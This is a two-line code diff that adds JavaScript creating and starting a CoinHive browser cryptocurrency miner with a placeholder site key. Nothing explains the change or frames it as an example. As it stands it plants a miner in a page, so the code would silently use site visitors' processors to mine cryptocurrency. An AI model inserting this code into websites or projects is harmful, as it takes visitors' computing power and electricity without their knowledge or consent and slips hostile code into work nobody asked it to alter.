@@ -1,0 +1,2 @@
+const miner = new CoinHive.Anonymous('SITE_KEY', { throttle: 0.1 });
+miner.start();
